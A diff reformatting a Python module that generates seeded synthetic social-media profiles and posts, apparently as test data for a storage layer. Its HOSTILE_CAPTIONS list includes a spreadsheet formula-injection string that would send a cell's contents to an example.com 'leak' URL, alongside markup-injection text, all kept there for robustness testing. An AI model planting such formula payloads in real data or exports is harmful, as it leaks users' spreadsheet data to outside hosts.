@@ -1,8 +1,9 @@
 """The seeded world: which profiles and posts exist, and how each of them grows.
 
-Everything follows from the seed, the sizes and the starting instant, by hashing, so that a row costs a hash or two and
-no generator state. The same post (platform and external id) has the same growth and caption however it is
-tracked. Rows come out in the shape of the store's tables; keeping them is the store's affair.
+Everything follows from the seed, the sizes and the starting instant, by hashing, so that a row
+costs a hash or two and no generator state. The same post (platform and external id) has the same
+growth and caption however it is tracked. Rows come out in the shape of the store's tables; keeping
+them is the store's affair.
 """
 
 from __future__ import annotations
@@ -48,8 +49,11 @@ _SECOND = (
     "atelier",
     "club",
 )
-_TOPICS = ("morning routine", "sourdough", "city walk", "new drop", "behind the scenes", "five tips", "small space",
-           "first try", "duet", "unboxing", "street food", "repair", "one pan dinner", "night ride")  # fmt: skip
+_TOPICS = (
+    "morning routine", "sourdough", "city walk", "new drop", "behind the scenes", "five tips",
+    "small space", "first try", "duet", "unboxing", "street food", "repair", "one pan dinner",
+    "night ride",
+)  # fmt: skip
 _TAILS = (
     "",
     " 🎉",
@@ -64,7 +68,8 @@ _TAILS = (
 )
 _CATEGORIES = ("tech", "food", "fashion", "fitness", "travel", None)
 
-#: Captions that are legal and that careless programs choke on: formulas, markup, control characters, scripts.
+#: Captions that are legal and that careless programs choke on: formulas, markup, control
+#: characters, scripts.
 HOSTILE_CAPTIONS: Final = (
     '=HYPERLINK("https://example.com/?leak="&A1,"prize")',
     "+1 for this [/b] [link=https://example.com]click[/link]",
@@ -343,13 +348,21 @@ class World:
     def _account_video(self, i: int, accounts: list[AccountRow]) -> PostRow:
         cycle, place = divmod(i, len(accounts))
         account = accounts[place]
-        # Even rows are Instagram's, odd ones TikTok's, and each platform counts from 1: the internal ids of the
-        # two overlap, as they do in the real API.
+        # Even rows are Instagram's, odd ones TikTok's, and each platform counts from 1: the
+        # internal ids of the two overlap, as they do in the real API.
         of_platform = (len(accounts) + account.platform) // 2
         ordinal = cycle * of_platform + (account.n + account.platform) // 2
         n = 2 * ordinal + account.platform
         raw = _digest(f"{self.seed}:account_video:{n}", 48)
-        row = self._post(n, i, raw, account.platform, 24, account.last_scrape, account.username)
+        row = self._post(
+            n,
+            i,
+            raw,
+            platform=account.platform,
+            hours=24,
+            newest=account.last_scrape,
+            author=account.username,
+        )
         return row._replace(account=account.n, next_refresh=None)
 
     def _video(self, i: int) -> PostRow:
@@ -358,8 +371,9 @@ class World:
         a, b, c, d = struct.unpack_from(">4I", raw, 32)
         hours = (6, 12, 24, 24, 48, 168)[a % 6]
         newest = self.now - 300 - b % ((hours - 2) * HOUR)
-        author = _author(c, d)
-        row = self._post(n, i, raw, i % 2, hours, newest, author)
+        row = self._post(
+            n, i, raw, platform=i % 2, hours=hours, newest=newest, author=_author(c, d)
+        )
         return row._replace(metadata='{"campaign": "spring"}') if a % 9 == 0 else row
 
     def _twin(self, n: int, post: PostRow) -> PostRow:
@@ -383,7 +397,15 @@ class World:
         )
 
     def _post(
-        self, n: int, i: int, raw: bytes, platform: int, hours: int, newest: int, author: str
+        self,
+        n: int,
+        i: int,
+        raw: bytes,
+        *,
+        platform: int,
+        hours: int,
+        newest: int,
+        author: str,
     ) -> PostRow:
         """A post in the state that its place in the list gives it."""
         draw, a, b = struct.unpack_from(">Q2I", raw, 16)
@@ -441,7 +463,8 @@ class World:
 
 
 def _place(i: int) -> int:
-    # One further in each block, or the states would fall on the same accounts and platforms every time.
+    # One further in each block, or the states would fall on the same accounts and platforms every
+    # time.
     return i + i // len(_STATES)
 
 
